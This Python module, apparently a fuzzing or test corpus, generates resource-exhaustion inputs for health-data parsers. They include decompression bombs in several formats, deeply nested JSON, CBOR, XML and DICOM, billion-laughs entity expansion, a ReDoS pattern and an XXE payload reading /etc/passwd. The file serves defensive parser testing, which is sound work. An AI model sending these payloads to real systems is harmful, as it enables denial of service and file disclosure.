"""Small inputs that ask for much: depth, length, numbers, repetition, and what unpacks to gigabytes."""

from __future__ import annotations

import gzip
import io
import lzma
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from zlib import crc32

import zstandard

MEGA = 1 << 20


class Bombs:
    """Bombs, the long ones as functions that make them when they are used: all together they would be the largest."""

    def __init__(self, *bombs: bytes | Callable[[], bytes]) -> None:
        self._bombs = bombs

    def __iter__(self) -> Iterator[bytes]:
        return (bomb if isinstance(bomb, bytes) else bomb() for bomb in self._bombs)

    def __len__(self) -> int:
        return len(self._bombs)

    def __add__(self, other: Bombs) -> Bombs:
        return Bombs(*self._bombs, *other._bombs)

    def short(self) -> list[bytes]:
        """Those that fit among the seeds of a fuzzer."""
        return [bomb for bomb in self._bombs if isinstance(bomb, bytes)]

    def within(self, before: bytes, after: bytes) -> Bombs:
        """The same inside something else."""

        def wrapped(bomb: bytes | Callable[[], bytes]) -> bytes | Callable[[], bytes]:
            return before + bomb + after if isinstance(bomb, bytes) else lambda: before + bomb() + after

        return Bombs(*map(wrapped, self._bombs))


# ── CBOR ──────────────────────────────────────────────────────────────────────────────────────────────────────────

CBOR = Bombs(
    b"\x81" * 1000,
    lambda: b"\x81" * 15 * MEGA,  # lists inside each other
    lambda: b"\xa1\x00" * MEGA,  # maps inside each other
    lambda: b"\xd8\x1c" * MEGA,  # tags inside each other
    lambda: b"\x9f" * MEGA,
    lambda: b"\x9a\x00\xff\xff\xf0" + b"\x80" * 0xFFFFF0,  # sixteen million empty lists
    lambda: b"\x9a\x00\x0f\xff\x00" + b"\x80" * 0xFFF00,
    lambda: b"\x9a\x00\x03\xff\xf0" + b"\x80" * 0x3FFF0,  # just below where items are counted
    b"\x9b" + b"\xff" * 8,  # lists, texts and maps of 2⁶⁴ parts that are not there
    b"\x9b\x00\x00\x00\x10" + bytes(4) + b"\x00" * 1000,
    b"\x5b" + b"\xff" * 8,
    b"\x5b\x00\x00\x00\x10" + bytes(4),
    b"\x7b\x7f" + b"\xff" * 7,
    b"\xbb" + b"\xff" * 8,
    lambda: b"\xba\x00\x0f\x00\x00" + b"\x00\x00" * 0xF0000,  # one key, a million times
    lambda: b"\xba\x00\x04\x00\x00" + b"".join(struct.pack(">BIB", 0x1A, n, 0) for n in range(1 << 18)),
    lambda: b"\xc2\x5a\x00\xf0\x00\x00" + b"\xff" * 0xF00000,  # a number of 15 MB
    b"\xc4\x82\x1b\x7f" + b"\xff" * 7 + b"\x01",  # 1 · 10^(2⁶³)
    b"\xc5\x82\x1b\x7f" + b"\xff" * 7 + b"\x01",
    lambda: b"\xd8\x1e\x82" + b"\xc2\x5a\x00\x10\x00\x00" + b"\xff" * MEGA + b"\x03",  # a fraction
    b"\xd8\x23\x78\x1e(((((((((a+)+)+)+)+)+)+)+)+)+$",  # a regular expression
    b"\xd8\x1c\x81\xd8\x1d\x00",  # a list that contains itself
    lambda: b"\x5f" + b"\x41a" * MEGA + b"\xff",
    lambda: b"\x84" + b"\x5a\x00\x3f\xff\xf0" + bytes(0x3FFFF0),
    lambda: bytes((1 << 24) + 1),
)

# ── JSON ──────────────────────────────────────────────────────────────────────────────────────────────────────────

JSON = Bombs(
    b"[" * 200,
    lambda: b"[" * 8 * MEGA,
    lambda: b"[" * 4 * MEGA + b"]" * 4 * MEGA,
    lambda: b'{"a":' * MEGA,
    lambda: b'{"a":' * MEGA + b"1" + b"}" * MEGA,
    lambda: b'[{"a":' * 10_000 + b"1" + b"}]" * 10_000,
    lambda: b"[" + b"[]," * 5 * MEGA + b"[]]",
    lambda: b"[" + b"0," * 7 * MEGA + b"0]",
    lambda: b"[" + b",".join([b'{"a":{"a":{"a":[]}}}'] * 240_000) + b',{"a":1,"a":1}]',  # bad only at the end
    lambda: b"9" * 15 * MEGA,
    lambda: b"[" + b",".join([b"9" * 4000] * 4000) + b"]",
    lambda: b"1e" + b"9" * MEGA,
    lambda: b"[" + b"1e400," * 100_000 + b"1]",
    lambda: b'{"a":1' + b',"a":1' * 400_000 + b"}",
    lambda: b"{" + b",".join(b'"%x":0' % number for number in range(400_000)) + b',"1":0}',
    lambda: b'{"' + b"a" * 8 * MEGA + b'":0,"' + b"a" * 7 * MEGA + b'b":0,"1":0,"1":0}',
    lambda: b'"' + b"\\u0041" * 2 * MEGA,
    lambda: b'"' + b"\\u003a" * 2 * MEGA + b'"x',
    lambda: b" " * 15 * MEGA,
    lambda: b" " * 8 * MEGA + b"[" + b"\n" * 7 * MEGA,
    lambda: b"\xef\xbb\xbf" * 5 * MEGA,
    lambda: b"[" + b"tru," * 3 * MEGA,
)

HEAVY_JSON = Bombs(
    lambda: b"[" + b"{}," * 400_000 + b"{}]",
    lambda: b"-0." + b"0" * 8 * MEGA + b"1",
    lambda: b'"' + b"\\" * 14 * MEGA + b'"',
    lambda: b'"' + b"\\\\" * 7 * MEGA + b"\\u003a" + b'" ',
)
"""These are good JSON, though nothing that anybody means."""

BUNDLED = (JSON + HEAVY_JSON).within(b'{"resourceType":"Bundle","type":"collection","entry":[{"resource":', b"}]}")

LISTED = Bombs(
    lambda: b"{}," * 5 * MEGA,
    lambda: b"," * 8 * MEGA,
    lambda: b"[" * 8 * MEGA,
    lambda: b'{"a":' * MEGA,
    lambda: b'"' + b"a" * 12 * MEGA,
).within(b'{"resourceType":"Bundle","type":"batch","entry":[', b"]}")
"""Elements of a list, of which each is read by itself."""
UNNAMED = Bombs(lambda: b"1," * 5 * MEGA, lambda: b"{}," * 5 * MEGA).within(b'{"entry":[', b'1],"resourceType":"List"}')

LINES = Bombs(
    lambda: b"{}\n" * 5 * MEGA,
    lambda: b'{"resourceType":"Basic"}\n' + b"\n" * 8 * MEGA,
    lambda: b'{"resourceType":"Basic"}\n' + b"[" * 8 * MEGA,
)


# ── what is packed ────────────────────────────────────────────────────────────────────────────────────────────────


@cache
def packed_zeros(megabytes: int, *, size_stated: bool = True, before: bytes = b"") -> bytes:
    """So many zeros as one zstd frame, made without having them all at once."""
    total = megabytes * MEGA + len(before)
    packer = zstandard.ZstdCompressor(level=3).compressobj(size=total if size_stated else -1)
    parts = [packer.compress(before), *(packer.compress(bytes(MEGA)) for _ in range(megabytes)), packer.flush()]
    return b"".join(parts)


WIDE_WINDOW = b"\x28\xb5\x2f\xfd\x00\xa8\x01\x00\x00"
"""A frame that asks its reader to hold 2 GB."""


ZSTD = Bombs(
    lambda: packed_zeros(1024),
    lambda: packed_zeros(1024, size_stated=False),
    lambda: packed_zeros(64, size_stated=False) * 16,
    WIDE_WINDOW,
    b"\x28\xb5\x2f\xfd\xe0" + b"\xff" * 8 + b"\x01\x00\x00",  # says that 2⁶⁴ bytes follow
    b"\x28\xb5\x2f\xfd\x20\xff\x03\x00\x80\x00",
    b"\x50\x2a\x4d\x18\xff\xff\xff\x7f" + bytes(1000),  # something to be skipped, of 2 GB
    lambda: b"\x50\x2a\x4d\x18\x00\x00\x00\x00" * MEGA,
)

PACKED_RECORDS = ZSTD + Bombs(
    lambda: packed_zeros(1024, size_stated=False, before=b'{"resourceType":"Patient","a":"'),
    lambda: zstandard.ZstdCompressor().compress(b'{"resourceType":"Basic"}\n' + b"\n" * 64 * MEGA),
    lambda: zstandard.ZstdCompressor().compress(b'{"resourceType":"Basic","a":' + b"[" * 8 * MEGA),
    lambda: zstandard.ZstdCompressor().compress(b'{"resourceType":"Basic","a":[' + b"[]," * 3 * MEGA + b"0]}"),
)


@cache
def gzipped_zeros(megabytes: int, *, before: bytes = b"") -> bytes:
    """So many zeros as one gzip member."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [packer.compress(before), *(packer.compress(bytes(MEGA)) for _ in range(megabytes)), packer.flush()]
    return b"".join(parts)


EMPTY_BLOCK = b"\0\0\0\xff\xff"
GZIP_HEAD = b"\x1f\x8b\x08" + bytes(7)

GZIP = Bombs(
    lambda: gzipped_zeros(1024),
    lambda: gzipped_zeros(70) * 15,
    lambda: gzip.compress(b"", mtime=0) * 700_000,  # members without anything
    lambda: GZIP_HEAD + EMPTY_BLOCK * 3 * MEGA,  # blocks without anything
    lambda: GZIP_HEAD[:3] + b"\x08" + bytes(6) + b"a" * 15 * MEGA,  # a name that does not end
    lambda: GZIP_HEAD[:3] + b"\x04" + bytes(6) + b"\xff\xff" + b"\0" * 15 * MEGA,
    lambda: (GZIP_HEAD[:3] + b"\x08" + bytes(6) + b"a") * MEGA,
    lambda: gzip.compress(gzip.compress(bytes(MEGA)) * 1000),  # a pack in a pack
)


def overlapping_zip(count: int, kernel: int) -> bytes:
    """As many entries as there may be, of which each is the same stream of so many megabytes of zeros."""
    stream = gzipped_zeros(kernel)[10:-8]
    size = kernel * MEGA
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, 0, len(stream), size, 1, 0) + b"a" + stream
    entry = struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, 0, len(stream), size, 1, 0, 0, 0, 0, 0, 0) + b"a"
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(entry) * count, len(local), 0)
    return local + entry * count + end


def small_zip(count: int) -> bytes:
    """So many parts with nothing in them."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        for number in range(count):
            file.writestr(zipfile.ZipInfo(str(number)), b"")
    return target.getvalue()


def deep_zip(depth: int) -> bytes:
    """ZIP files inside each other, around many zeros."""
    content = bytes(16 * MEGA)
    for _ in range(depth):
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
            for name in "abcdefgh":
                file.writestr(zipfile.ZipInfo(name + ".zip"), content, zipfile.ZIP_DEFLATED)
        content = target.getvalue()
    return content


ZIP = Bombs(
    lambda: overlapping_zip(65535, 1),
    lambda: overlapping_zip(1, 512),
    lambda: overlapping_zip(2, 10),
    lambda: small_zip(20_000),
    lambda: deep_zip(2),
    lambda: b"PK\3\4" + b"PK\5\6" * 4 * MEGA,  # directories that end nowhere
    lambda: b"PK\3\4" + b"PK\5\6" + bytes(16) + b"\xff\xff" + b"PK\5\6" * 16_383,
    b"PK\5\6" + bytes(4) + b"\xff" * 12 + bytes(2),  # ZIP64 that is not there
)

PACKED_JSON = Bombs(
    lambda: gzip.compress(b'{"resourceType":"Basic"}\n' + b"\n" * 12 * MEGA),
    lambda: gzip.compress(b'{"resourceType":"Basic","a":' + b"[" * 8 * MEGA),
    lambda: gzip.compress(b'{"resourceType":"Basic","a":[' + b"[]," * 3 * MEGA + b"0]}"),
    lambda: gzipped_zeros(1024, before=b'{"resourceType":"Patient","a":"'),
)


def wide_dictionary() -> bytes:
    """A stream that asks its reader to hold 4 GB."""
    packed = bytearray(lzma.compress(b"small"))
    packed[16] = 40  # the size of the dictionary, in the header of the first block
    packed[20:24] = crc32(packed[12:20]).to_bytes(4, "little")
    return bytes(packed)


XZ = Bombs(
    lambda: lzma.compress(bytes(64 * MEGA), preset=0),
    wide_dictionary,
)

# ── DICOM and markup ──────────────────────────────────────────────────────────────────────────────────────────────

DICOM_HEAD = bytes(128) + b"DICM\x02\0\x10\0UI\x14\x001.2.840.10008.1.2.1\0"
OPEN = b"SQ\0\0\xff\xff\xff\xff"
ITEM = b"\xfe\xff\0\xe0\xff\xff\xff\xff"

DICOM = Bombs(
    lambda: DICOM_HEAD + b"\x08\0\x05\0US\0\0" * 2 * MEGA,  # elements without anything
    lambda: DICOM_HEAD + (b"\x08\0\x05\0" + OPEN + ITEM) * 700_000,  # sequences inside each other
    lambda: DICOM_HEAD + b"\x08\0\x05\0" + OPEN + b"\xfe\xff\0\xe0\0\0\0\0" * 2 * MEGA,  # items without anything
    lambda: DICOM_HEAD + b"\x08\0\x05\0" + OPEN + ITEM + b"\x08\0\x05\0US\0\0" * 2 * MEGA,
    lambda: DICOM_HEAD[:132] + b"\x02\0\x10\0US\0\0" * 2 * MEGA,  # a head without an end
    DICOM_HEAD + b"\x08\0\x05\0UN\0\0\xfe\xff\xff\xff",
    DICOM_HEAD
    + b"".join(b"\x28\0%c\0US\2\0\xff\xff" % number for number in (2, 0x10, 0x11))
    + b"\x28\0\0\1US\2\0\x10\0\xe0\x7f\x10\0OW\0\0\xfe\xff\xff\xff",  # pixels that are not there
)

MARKUP = Bombs(
    lambda: (
        b"<!DOCTYPE HealthData ["
        + b"".join(b'<!ENTITY a%d "&a%d;&a%d;">' % (n, n - 1, n - 1) for n in range(1, 99))
        + b"]><HealthData>&a98;</HealthData>"
    ),
    lambda: b"<HealthData>" + b"<a>" * 4 * MEGA,
    lambda: b"<HealthData " + b'a="' * 4 * MEGA,
    lambda: b"<" * 15 * MEGA,
    lambda: b" " * 15 * MEGA + b"<HealthData",
    lambda: b"#" * 15 * MEGA,
    lambda: b"," * 15 * MEGA,
)

# ── text ──────────────────────────────────────────────────────────────────────────────────────────────────────────

TOML = Bombs(
    lambda: b"a" + b".a" * 30_000 + b" = 1",
    lambda: b"[a" + b".a" * 30_000 + b"]",
    lambda: b"\n".join(b"a" + b".a" * 31 + b".b%d = 1" % number for number in range(900)),
    lambda: b"a = " + b"[" * 60_000,
    lambda: b"a = " + b"[" * 30_000 + b"]" * 30_000,
    lambda: b"a = " + b"{a = " * 12_000,
    lambda: b"a = " + b"9" * 60_000,
    lambda: b"a = 0x" + b"f" * 60_000,
    lambda: b"a = 0b" + b"1_" * 30_000 + b"1",
    lambda: b"a = 1e" + b"9" * 60_000,
    lambda: b"a = 0." + b"0" * 60_000 + b"1",
    lambda: b"[[use]]\n" * 8_000,
    lambda: b"".join(b"[a%d]\n" % number for number in range(9_000)),
    lambda: b"trusted = [" + b'"",' * 20_000 + b"]",
    lambda: b'mode = """' + b"\\\n   " * 12_000 + b'"""',
    lambda: b'"' + b"\\" * 60_000,
    lambda: b"a = 1979-05-27T07:32:00." + b"9" * 60_000,
    lambda: b"# " + b"a" * 16 * MEGA,
    lambda: b"[loss]\nyear = " + b"9" * 4_000,
)

# ── tables ────────────────────────────────────────────────────────────────────────────────────────────────────────

SHEETS = Bombs(
    lambda: b'time,date,test,result,steps\n"' + b"x" * 15 * MEGA,  # a quote that never ends
    lambda: b'time,date,test,result,steps\n"' + b"\n" * 8 * MEGA,
    lambda: b"time,date,test,result,steps" + b",ab" * 5 * MEGA,
    lambda: b"time,date,test,result,steps\n" + b",ab" * 5 * MEGA,
    lambda: b"time,date,test,result,steps\n" + b'"a\n",' * 2 * MEGA,
    lambda: b"," * 15 * MEGA,
    lambda: b"time,date,test,result,steps" + b"\n" * 15 * MEGA,
    lambda: b"\xff" * 15 * MEGA,
    lambda: b"time,date,test,result,steps\n2024-01-01,2024-01-01,a,1,1\n" + b"x" * 15 * MEGA,
)

_HEALTH = b'<?xml version="1.0"?>'

MARKUP = Bombs(
    _HEALTH
    + b'<!DOCTYPE a [<!ENTITY a0 "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY a%d "%s">' % (number, b"&a%d;" % (number - 1) * 10) for number in range(1, 10))
    + b"]><HealthData>&a9;</HealthData>",
    _HEALTH + b'<!DOCTYPE a SYSTEM "file:///etc/passwd" [<!ENTITY % b SYSTEM "http://a/"> %b;]><HealthData>&c;',
    lambda: _HEALTH + b"<a>" * 5 * MEGA,
    lambda: _HEALTH + b"<HealthData>" + b"<a/>" * 3 * MEGA,
    lambda: _HEALTH + b"<HealthData>" + b"<Correlation>" * MEGA,
    lambda: _HEALTH + b"<a " + b"".join(b'b%d="" ' % number for number in range(MEGA)) + b"/>",
    lambda: _HEALTH + b'<a b="' + b"x" * 15 * MEGA + b'"/>',
    lambda: _HEALTH + b"<a>" + b"x" * 15 * MEGA,
    lambda: _HEALTH + b"<!--" + b"x" * 15 * MEGA,
    lambda: _HEALTH + b"<!---->" * 2 * MEGA,
    lambda: _HEALTH + b"<!DOCTYPE a [" + b"<!---->" * 2 * MEGA + b"]>",
    lambda: _HEALTH + b"<!DOCTYPE a [" + b"]" * 15 * MEGA,
    lambda: _HEALTH + b"<!DOCTYPE a [" + b"] " * 7 * MEGA + b"]><a>",
    lambda: b" " * 15 * MEGA,
)

_VCF = b"##fileformat=VCFv4.2\n"
_NAMES = b"#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\tFORMAT\tme\n"

VARIANTS = Bombs(
    lambda: _VCF + b"##contig=<ID=a," * MEGA + b"\n",
    lambda: _VCF + b"##a\n" * MEGA,
    lambda: _VCF + _NAMES.rstrip(b"\n") + b"\tab" * 5 * MEGA + b"\n",
    lambda: _VCF + _NAMES + b"1" + b"\tab" * 5 * MEGA + b"\n",
    lambda: _VCF + _NAMES + b"1\t1\t.\tA\t" + b"G," * 7 * MEGA + b"G\t.\t.\t.\tGT\t0/1\n",
    lambda: _VCF + _NAMES + b"1\t1\t.\tA\tG\t.\t.\t.\tGT\t" + b"0/" * 7 * MEGA + b"1\n",
    lambda: _VCF + _NAMES + b"1\t" + b"1" * 15 * MEGA + b"\t.\tA\tG\t.\t.\t.\tGT\t0/1\n",
    lambda: _VCF + _NAMES + b"1\t1\t.\tA\tG\t" + b"1" * 15 * MEGA + b"\t.\t.\tGT\t0/1\n",
    lambda: _VCF + _NAMES + b"1\t1\t.\tA\tG\t.\t.\tEND=" + b"1" * 15 * MEGA + b"\tGT\t0/1\n",
    lambda: _VCF + _NAMES + b"\n" * 3 * MEGA + b"x",
    lambda: _VCF + _NAMES + b"\xff" * 15 * MEGA,
)

ARRAYS = Bombs(
    lambda: b"#" * 15 * MEGA + b"\nx",
    lambda: b"rs1\t1\t1\tAA" + b"\n" * 15 * MEGA,
    lambda: b"rs1\t1\t1\tAA\t" * MEGA,
    lambda: b"\t" * 15 * MEGA,
    lambda: b"rs1\t1\t1\t" + b"A" * 15 * MEGA,
    lambda: b"rs1\t1\t" + b"1" * 900_000 + b"\tAA\n",
    lambda: b"rs1\t1\t1\tAA\n" + b"rs1,1,1,AA\n" * 90_000,
)

SIGNALS = Bombs(
    lambda: b"r 99999 360\n" + b"r.dat 16\n" * 99_999,
    b"r 250 360\n" + b"r.dat 80x99991\n" * 125 + b"r.dat 80x99989\n" * 125 + b"\0" + bytes(1000),
    b"r 2 360\nr.dat 80x1\nr.dat 80x99991\n\0" + bytes(99_992),
    lambda: b"r 3 360\nr.dat 80x1\nr.dat 80x31\nr.dat 80x32\n\0" + bytes(15 * MEGA),
    lambda: b"r 1 360 " + b"9" * MEGA + b"\nr.dat 16\n\0ab",
    lambda: b"r 1 360\nr.dat 16 " + b"1 " * 500_000 + b"\n\0ab",
    lambda: b"r 1 360\nr.dat 16+9999999999\n\0" + bytes(MEGA),
    lambda: b"#\n" * 500_000 + b"\0ab",
    lambda: b" " * 15 * MEGA,
)

ANNOTATIONS = Bombs(
    lambda: b"r 0 360\n\0" + b"\x01\x04" * 7 * MEGA + b"\0\0",
    lambda: b"r 0 360\n\0" + b"\x00\xec\xff\x7f\xff\xff" * 300_000 + b"\x01\x04\0\0",
    lambda: b"r 0 360\n\0\x01\x04" + b"\x01\xf0" * 900_000,
)

_DICOM = bytes(128) + b"DICM"

IMAGES = Bombs(
    lambda: _DICOM + struct.pack("<HH2s2xI", 8, 1, b"SQ", 0xFFFFFFFF) * MEGA,
    lambda: (
        _DICOM
        + (struct.pack("<HH2s2xI", 8, 1, b"SQ", 0xFFFFFFFF) + struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF)) * MEGA
    ),
    lambda: _DICOM + struct.pack("<HH2sH", 8, 1, b"UI", 0) * 2 * MEGA,
    lambda: _DICOM + struct.pack("<HH2sH", 2, 1, b"UI", 0) * 2 * MEGA,
    lambda: _DICOM + struct.pack("<HH2s2xI", 8, 1, b"SQ", 0xFFFFFFFF) + struct.pack("<HHI", 0xFFFE, 0xE000, 0) * MEGA,
    _DICOM + struct.pack("<HH2s2xI", 8, 0x18, b"OB", 0xFFFFFFF0),
)
